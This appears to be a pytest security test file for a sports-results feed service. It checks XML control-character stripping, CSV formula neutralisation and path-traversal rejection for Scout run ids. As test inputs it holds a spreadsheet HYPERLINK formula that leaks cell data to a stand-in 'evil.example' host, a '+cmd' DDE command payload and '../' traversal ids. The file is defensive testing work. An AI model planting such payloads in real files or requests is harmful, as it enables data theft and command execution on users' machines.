"""Input: feeds a client can parse and open safely, and Scout ids checked before they reach a
URL. The outbound calls are in test_inputs_outbound.py.
"""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime
from typing import Any
from xml.etree import ElementTree as ET

import asyncpg
import httpx
import pytest
from aiohttp import web

from omnium_delivery import load_clients
from omnium_delivery._documents import Document, render, unit_row
from omnium_imports._scout import ScoutClient, ScoutError
from tests.security.test_inputs_outbound import hook_client, http_server
from tests.support.command import settings_for
from tests.support.delivery import running_delivery
from tests.support.games import EVENT, make_games
from tests.support.imports import SCHEDULE, games_day, sign
from tests.support.receiver import webhook_receiver
from tests.support.waiting import eventually

# -- XML feeds: only characters XML 1.0 allows -----------------------------------------------------


async def test_an_odf_feed_of_names_with_control_characters_parses_strictly(
    db: asyncpg.Connection, database_url: str
) -> None:
    games = await make_games(db, units=2)
    await db.execute(
        "UPDATE competitor SET name = $2 WHERE id = $1",
        games.competitors["JPN"],
        "Japan\x01\x0b\x1b\ufffe\uffff team",
    )
    await db.execute("UPDATE unit SET name = $1, venue = $2", "Match\x07 one", "Nagoya\x1f Dome")
    async with webhook_receiver() as receiver:
        await load_clients(
            db, [hook_client("odf", receiver.url, [{"kind": "schedule", "format": "odf"}])]
        )
        async with running_delivery(database_url):
            await eventually(lambda: _has(receiver.got), what="the ODF schedule")
    xml = receiver.got[0].json["data"]["document"]
    # expat, as strict as XML 1.0: one character it does not allow and the whole feed is lost.
    root = ET.fromstring(xml.encode())
    names = {d.get("Name") for d in root.iter("Description")}
    assert names == {"KOR football", "Japan team"}
    assert {i.get("Value") for i in root.iter("ItemName")} == {"Match one"}
    assert {u.get("Venue") for u in root.iter("Unit")} == {"Nagoya Dome"}


def test_every_xml_feed_drops_what_xml_does_not_allow() -> None:
    """Schedule, results and medals, with C0 controls, U+FFFE/U+FFFF and a lone surrogate (which
    PostgreSQL cannot hold, but a value built in memory can): each parses, tab and newline stay."""
    bad = "A\x00\x08\x0c\ud800\ufffe\uffffB\tC\nD"
    unit = {
        "code": "FBLMEVENT" + "-" * 25,
        "discipline": "FBL",
        "name": bad,
        "phase": bad,
        "start_at": None,
        "venue": bad,
        "status": "OFFICIAL",
        "sides": [
            {
                "order": 1,
                "name": bad,
                "competitor": bad,
                "noc": "KOR",
                "score": bad,
                "result": None,
                "rank": 1,
                "medal": None,
            },
        ],
    }
    now = datetime(2026, 9, 20, tzinfo=UTC)
    for kind in ("schedule", "results"):
        row = unit_row(unit, {}, results=kind == "results")
        root = ET.fromstring(render(Document(kind, EVENT, "FBL", None, [row]), "odf", 1, now))
        assert root.find(".//ItemName").get("Value") == "AB\tC\nD"
        assert root.find(".//Description").get("Name") == "AB\tC\nD"
    medals = [{"rank": 1, "noc": bad, "gold": 1, "silver": 0, "bronze": 0, "total": 1}]
    root = ET.fromstring(render(Document("medals", EVENT, None, None, medals), "odf", 1, now))
    assert root.find(".//MedalLine").get("Organisation") == "AB\tC\nD"


async def _has(items: list[Any]) -> bool:
    return bool(items)


# -- CSV feeds: no live formulas -------------------------------------------------------------------


async def test_a_csv_feed_does_not_hand_a_spreadsheet_a_formula(
    db: asyncpg.Connection, database_url: str
) -> None:
    games = await make_games(db, units=1)
    formula = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
    await db.execute(
        "UPDATE competitor SET name = $2 WHERE id = $1", games.competitors["KOR"], formula
    )
    await db.execute(
        "UPDATE competitor SET name = $2 WHERE id = $1", games.competitors["JPN"], "@SUM(1+1)"
    )
    await db.execute("UPDATE unit SET venue = $1", "+cmd|' /C calc'!A0")
    async with webhook_receiver() as receiver:
        await load_clients(
            db, [hook_client("csv", receiver.url, [{"kind": "schedule", "format": "csv"}])]
        )
        async with running_delivery(database_url):
            await eventually(lambda: _has(receiver.got), what="the CSV schedule")
    rows = list(csv.DictReader(io.StringIO(receiver.got[0].json["data"]["document"])))
    assert [r["name"] for r in rows] == ["'" + formula, "'@SUM(1+1)"]
    assert {r["venue"] for r in rows} == {"'+cmd|' /C calc'!A0"}


def test_csv_keeps_numbers_and_times_and_neutralises_the_rest() -> None:
    """Numbers and times that start with a sign stay as they are: they hold only digits and
    separators, so no spreadsheet can call anything with them."""
    cells = [
        "-1",
        "+3",
        "-0.5",
        "-0:05",
        "+1:02.35",
        "=1+1",
        "-2+3",
        "-A1",
        "@A1",
        "\tx",
        "\r=1",
        "+",
        "-",
        "plain",
        "1-0",
    ]
    sides = [
        {
            "order": n,
            "competitor": "C",
            "name": "N",
            "noc": "KOR",
            "score": cell,
            "result": None,
            "rank": None,
            "medal": None,
        }
        for n, cell in enumerate(cells, start=1)
    ]
    unit = {
        "code": "U",
        "discipline": "FBL",
        "name": "M",
        "phase": "",
        "start_at": None,
        "venue": None,
        "status": "OFFICIAL",
        "sides": sides,
    }
    body = render(Document("results", EVENT, None, None, [unit]), "csv", 1, datetime.now(UTC))
    got = [r["score"] for r in csv.DictReader(io.StringIO(body.decode(), newline=""))]
    assert got == [
        "-1",
        "+3",
        "-0.5",
        "-0:05",
        "+1:02.35",
        "'=1+1",
        "'-2+3",
        "'-A1",
        "'@A1",
        "'\tx",
        "'\n=1",
        "'+",
        "'-",
        "plain",
        "1-0",
    ]


# -- The doorbell: Scout ids only ------------------------------------------------------------------


def _ring(run_id: object, job: object = "schedule") -> bytes:
    run = {
        "id": run_id,
        "job": job,
        "status": "passed",
        "rowCount": 1,
        "finishedAt": "2026-09-20T01:00:00+00:00",
        "build": "all",
    }
    return json.dumps({"run": run, "sample": []}).encode()


async def test_a_doorbell_naming_a_run_that_is_not_a_scout_id_is_refused(
    database_url: str,
) -> None:
    bodies = [
        _ring("../../v1/jobs/schedule/runs"),
        _ring("r-1?offset=0"),
        _ring("r 1"),
        _ring("x" * 65),
        _ring("r-1", job="../medals"),
    ]
    async with games_day(database_url, workers=0) as day, httpx.AsyncClient() as http:
        answers = [
            await http.post(
                f"{day.doorbell_url}/doorbell/{SCHEDULE}",
                content=body,
                headers={"X-Scout-Signature": sign(body)},
            )
            for body in bodies
        ]
        good = _ring("6b0f5b0801-000001")
        taken = await http.post(
            f"{day.doorbell_url}/doorbell/{SCHEDULE}",
            content=good,
            headers={"X-Scout-Signature": sign(good)},
        )
        jobs = await day.db.fetch("SELECT scout_run_id FROM integration_job")
    for answer in answers:
        assert answer.status_code == 400
        reason = answer.json()["error"]
        assert "is not a Scout id" in reason and "Nothing was queued." in reason
    assert taken.status_code == 200 and taken.json()["queued"] is True
    assert [j["scout_run_id"] for j in jobs] == ["6b0f5b0801-000001"]


async def test_an_id_placed_in_a_scout_url_stays_one_path_segment(database_url: str) -> None:
    """A run id that reached Scout's client by another road (an operator's --run, a stored
    one) is quoted: `..` and `/` cannot move the call elsewhere on Scout."""

    async def scout(request: web.Request) -> web.Response:
        return web.json_response({"runs": []})

    settings = settings_for(database_url, scout_tries=1)
    async with http_server(scout) as server:
        client = ScoutClient(settings)
        try:
            with pytest.raises(ScoutError):
                await client.run(server.url, "../jobs/schedule/runs")
            await client.newest_run(server.url, "sched/../ule")
        finally:
            await client.close()
    assert server.paths == [
        "/v1/runs/..%2Fjobs%2Fschedule%2Fruns",
        "/v1/jobs/sched%2F..%2Fule/runs?limit=1",
    ]
